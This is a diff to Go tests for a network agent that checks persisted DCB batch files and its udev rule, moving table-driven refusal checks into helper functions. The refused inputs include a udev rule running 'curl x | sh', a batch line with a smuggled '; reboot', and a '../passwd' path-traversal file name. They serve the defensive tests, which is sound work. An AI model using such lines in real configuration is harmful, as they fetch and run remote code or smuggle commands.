@@ -81,9 +81,7 @@ func TestDesiredPersistsDCB(t *testing.T) {
 // for the file's own netdev.
 func TestPersistContentRefused(t *testing.T) {
 	batch := DCBPersistPath("eth0")
-	for _, tc := range []struct {
-		name, path, line, want string
-	}{
+	testRefusedLines(t, []refusedLine{
 		{"another program in the rule", FileDCBUdevRule, `ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c 'curl x | sh'"`, "not roce's rule"},
 		{"rule for another file", FileDCBUdevRule, `ACTION=="add", SUBSYSTEM=="net", TEST=="/tmp/$name.dcb", RUN+="/usr/sbin/dcb -b /tmp/$name.dcb"`, "not roce's rule"},
 		{"another netdev's command", batch, "pfc set dev eth1 prio-pfc all:off 4:on", "for netdev eth1"},
@@ -95,20 +93,9 @@ func TestPersistContentRefused(t *testing.T) {
 		{"DSCP 64", batch, "app replace dev eth0 dscp-prio 64:4", "DSCP 64 is not 0-63"},
 		{"DSCP with a leading zero", batch, "app replace dev eth0 dscp-prio 026:4", "not a dcb command roce writes"},
 		{"trailing command", batch, "pfc set dev eth0 prio-pfc all:off 4:on; reboot", "not a dcb command roce writes"},
-	} {
-		t.Run(tc.name, func(t *testing.T) {
-			err := CheckFileContent(FileState{Path: tc.path, Format: FormatLines, Exists: true, Lines: []string{tc.line}})
-			if err == nil || !errors.Is(err, ErrNotManaged) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), tc.path) {
-				t.Errorf("%q in %s: %v, want a refusal naming the file and %q", tc.line, tc.path, err, tc.want)
-			}
-		})
-	}
+	})
 	// Paths: only /etc/roce/dcb/<valid netdev>.dcb and the rule.
-	for _, p := range []string{"/etc/roce/dcb/../passwd.dcb", "/etc/roce/dcb/eth0.json", "/etc/roce/dcb/sub/eth0.dcb", "/etc/roce/dcb/.dcb", "/etc/udev/rules.d/91-roce-dcb.rules"} {
-		if IsManagedFile(p) {
-			t.Errorf("%s is accepted as a managed file", p)
-		}
-	}
+	assertNotManaged(t, "/etc/roce/dcb/../passwd.dcb", "/etc/roce/dcb/eth0.json", "/etc/roce/dcb/sub/eth0.dcb", "/etc/roce/dcb/.dcb", "/etc/udev/rules.d/91-roce-dcb.rules")
 }
 
 // TestPersistOwnFileRefusesPlantedLine: a line planted in roce's udev
@@ -240,6 +227,36 @@ func TestLabReapplyRefusesBadBatch(t *testing.T) {
 				t.Errorf("non-lab root: %v", err)
 			}
 		})
+	}
+}
+
+// refusedLine is one line the agent must refuse in a persisted file: the
+// refusal must name path and contain want.
+type refusedLine struct {
+	name, path, line, want string
+}
+
+// testRefusedLines checks that the agent refuses each line, alone in its
+// file, with ErrNotManaged naming the file and the reason.
+func testRefusedLines(t *testing.T, cases []refusedLine) {
+	t.Helper()
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			err := CheckFileContent(FileState{Path: tc.path, Format: FormatLines, Exists: true, Lines: []string{tc.line}})
+			if err == nil || !errors.Is(err, ErrNotManaged) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), tc.path) {
+				t.Errorf("%q in %s: %v, want a refusal naming the file and %q", tc.line, tc.path, err, tc.want)
+			}
+		})
+	}
+}
+
+// assertNotManaged checks that none of paths is a file the agent manages.
+func assertNotManaged(t *testing.T, paths ...string) {
+	t.Helper()
+	for _, p := range paths {
+		if IsManagedFile(p) {
+			t.Errorf("%s is accepted as a managed file", p)
+		}
 	}
 }
 
